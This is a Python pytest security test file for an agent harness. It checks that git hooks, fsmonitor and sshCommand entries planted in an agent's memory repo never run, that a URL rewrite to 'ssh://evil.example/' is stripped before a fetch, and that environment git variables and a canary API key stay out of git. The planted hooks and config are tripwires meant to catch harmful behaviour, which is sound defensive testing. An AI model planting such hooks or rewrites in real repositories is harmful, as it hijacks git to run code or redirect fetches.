"""Every git command of the harness is inert to what is planted in a repo or its process.

Hooks written by hand into the memory repo's ``.git/hooks``, a ``core.fsmonitor``, a
``core.sshCommand`` with a URL rewrite that would send the harness's own fetch through
it: none of them may ever run, whichever harness command touches the repo (the daemon's
commit, status, log and reads; the worker's clone, fetch, merge, abort and sweep). And a
``GIT_DIR`` or provider key in the process's environment reaches no git command.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from agentd.jobs.checkout import collect, create_worktree, sweep_orphans
from agentd.jobs.finalize import finalize
from shared.memory import git
from shared.memory.repo import MemoryRepo
from tests.security.walls import CANARY_KEY, tripped, tripwire_script

HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "post-checkout",
    "post-merge",
    "pre-merge-commit",
    "reference-transaction",
    "post-rewrite",
    "pre-auto-gc",
)


@pytest.fixture
def planted(tmp_path: Path) -> Iterator[tuple[MemoryRepo, Path]]:
    """A memory repo with every hook, an fsmonitor and an ssh command planted for the harness."""
    wire = tmp_path / "wire"
    wire.mkdir()
    tripwire = tripwire_script(wire)
    with MemoryRepo.create(
        tmp_path / "agents/a1/memory", agent_id="a1", agent_name="a1", persona="p", human="- x"
    ) as repo:
        hooks = repo.path / ".git/hooks"
        hooks.mkdir(exist_ok=True)
        for hook in HOOKS:
            (hooks / hook).write_text(f"#!/bin/sh\n{tripwire} {hook}\n")
            (hooks / hook).chmod(0o755)
        with (repo.path / ".git/config").open("a") as config:
            config.write(f"[core]\n\tfsmonitor = {tripwire}\n\tsshCommand = {tripwire}\n")
        yield repo, wire


def test_no_planted_hook_fsmonitor_or_ssh_command_runs_under_any_harness_command(
    planted: tuple[MemoryRepo, Path], tmp_path: Path
) -> None:
    repo, wire = planted
    worktrees = tmp_path / "agents/a1/reflections/worktrees"
    (repo.path / "notes.md").write_text("a turn's edit\n")
    assert repo.uncommitted() == ["notes.md"]
    repo.commit_all("turn edit", author_name="a1", author_email="a1@agentd.local")
    repo.log()
    repo.read_tree()
    repo.show("system/human.md")

    merged = create_worktree(repo.path, worktrees, "job-merge", author_email="a@b")
    (merged.path / "learned.md").write_text("a reflection's note\n")
    git.run(merged.path, "add", "-A")
    git.run(merged.path, "commit", "-qm", "feat(reflection): note")
    assert collect(merged)
    (repo.path / "other.md").write_text("meanwhile\n")
    repo.commit_all("turn edit", author_name="a1", author_email="a1@agentd.local")
    assert finalize(merged, should_merge=True).status == "merged"

    conflicting = create_worktree(repo.path, worktrees, "job-conflict", author_email="a@b")
    (conflicting.path / "notes.md").write_text("the reflection's version\n")
    git.run(conflicting.path, "commit", "-qam", "feat(reflection): notes")
    (repo.path / "notes.md").write_text("the daemon's version\n")
    repo.commit_all("turn edit", author_name="a1", author_email="a1@agentd.local")
    assert finalize(conflicting, should_merge=True).status == "merge_conflict"

    create_worktree(repo.path, worktrees, "job-orphan", author_email="a@b")
    git.run(repo.path, "merge", "--no-ff", "-m", "left half done", "HEAD~1", check=False)
    sweep_orphans(repo.path, worktrees)

    assert not tripped(wire), (wire / "agentd-tripwire").read_text()


def test_a_url_rewrite_planted_for_the_fetch_is_gone_before_the_fetch_runs(
    planted: tuple[MemoryRepo, Path], tmp_path: Path
) -> None:
    """Once it made the fetch fail; now the config is agentd's again before any git reads
    it (:mod:`shared.memory.git_pin`), so the fetch stays local and runs nothing."""
    repo, wire = planted
    worktrees = tmp_path / "agents/a1/reflections/worktrees"
    clone = create_worktree(repo.path, worktrees, "job-1", author_email="a@b")
    with (repo.path / ".git/config").open("a") as config:
        config.write(f'[url "ssh://evil.example/"]\n\tinsteadOf = {worktrees}\n')

    assert collect(clone)
    result = finalize(clone, should_merge=True)

    assert result.status == "no_changes"
    assert "insteadOf" not in (repo.path / ".git/config").read_text()
    assert "name = a1" in (repo.path / ".git/config").read_text()
    assert not tripped(wire)


def test_git_gets_neither_the_process_git_variables_nor_its_keys(
    planted: tuple[MemoryRepo, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, _ = planted
    elsewhere = tmp_path / "elsewhere"
    git.run(tmp_path, "init", "-q", str(elsewhere))
    monkeypatch.setenv("GIT_DIR", str(elsewhere / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(elsewhere))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'core.hooksPath'='.git/hooks'")
    monkeypatch.setenv("OPENAI_API_KEY", CANARY_KEY)

    (repo.path / "notes.md").write_text("lands in the memory repo\n")
    sha = repo.commit_all("turn edit", author_name="a1", author_email="a1@agentd.local")

    assert sha == repo.head()
    assert "notes.md" in repo.read_tree() or (repo.path / "notes.md").exists()
    assert git.run(elsewhere, "rev-list", "--all").stdout == ""
    env = git.clean_env()
    assert CANARY_KEY not in env.values()
    assert not {name for name in env if name.startswith("GIT_") and "CONFIG" not in name} - {
        "GIT_TERMINAL_PROMPT",
        "GIT_PAGER",
        "GIT_EDITOR",
        "GIT_ATTR_NOSYSTEM",
    }
